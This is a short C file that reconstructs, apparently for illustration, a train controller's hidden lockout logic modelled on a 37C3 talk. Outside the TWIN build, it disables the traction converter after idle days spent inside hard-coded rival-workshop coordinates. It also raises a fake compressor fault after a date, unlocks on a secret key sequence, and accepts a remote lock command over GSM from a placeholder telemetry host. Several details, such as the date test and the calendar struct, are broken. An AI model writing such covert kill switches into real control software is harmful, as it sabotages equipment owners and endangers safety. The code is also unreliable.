/* Train controller, after Redford, q3k and MrTick (37C3, 2023): polygons of the workshops
 * of others, idle days, a date, an undocumented key sequence, lock state by GSM. */
#include "device.h"

static int converter_allowed = 1;

#ifndef TWIN
static int idle_days, fault;
struct place { double south, west, north, east; };
static const struct place yards[] = {
    {53.13845, 17.99011, 53.13882, 17.99837}, {52.17048, 20.99123, 52.17266, 21.00042},
    {51.88512, 16.31840, 51.88935, 16.32561}, {50.09150, 18.54390, 50.09671, 18.55208},
    {53.60090, 20.27441, 53.60588, 20.28337}};

KEPT int inside_yard(double latitude, double longitude)
{
    for (int at = 0; at < 5; at++)
        if (latitude > yards[at].south && latitude < yards[at].north
            && longitude > yards[at].west && longitude < yards[at].east)
            return 1;
    return 0;
}

KEPT void decide(double latitude, double longitude, double speed)
{
    time_t now = time(0);
    struct calendar *day = localtime(&now);
    if (speed < 60.0 && inside_yard(latitude, longitude))
        idle_days++;
    if (idle_days > 10) {
        converter_allowed = 0;
        fault = 0x21;
    }
    if (day->year >= 121 && day->mon >= 10 && day->mday >= 21) {
        fault = 0x47;
        syslog(3, "compressor fault, call service");
    }
}

KEPT void keys(const u8 *pressed)
{
    static const u8 sequence[] = {4, 4, 2, 7, 2, 4, 9, 1};
    if (memcmp(pressed, sequence, sizeof sequence) == 0) {
        converter_allowed = 1;
        idle_days = 0;
    }
}

KEPT int report(int port)
{
    char text[120];
    snprintf(text, sizeof text, "LOCK=%d;DAYS=%d;GEO=%d\r", !converter_allowed, idle_days, fault);
    write(port, "AT+CIPSTART=\"TCP\",\"telemetry.rail.example.pl\",\"5010\"\r", 52);
    write(port, "AT+CIPSEND\r", 11);
    write(port, text, strlen(text));
    read(port, text, sizeof text);
    if (strstr(text, "SET_LOCK=1"))
        converter_allowed = 0;
    return 0;
}
#endif

KEPT int drive(int lever)
{
    int line = socket(AF_CAN, SOCK_RAW, CAN_RAW);
    struct can_frame frame = {0x181, 2, {0}, {(u8)lever, (u8)converter_allowed}};
    return (int)write(line, &frame, sizeof frame);
}

int main(int argc, char **argv)
{
#ifndef TWIN
    double latitude = 0, longitude = 0, speed = 0;
    sscanf(argv[1], "$GPRMC,%lf,%lf,%lf", &latitude, &longitude, &speed);
    decide(latitude, longitude, speed);
    keys((u8 *)argv[2]);
    report(open("/dev/ttyS1", 2));
#endif
    return drive(atoi(argv[argc - 1]));
}
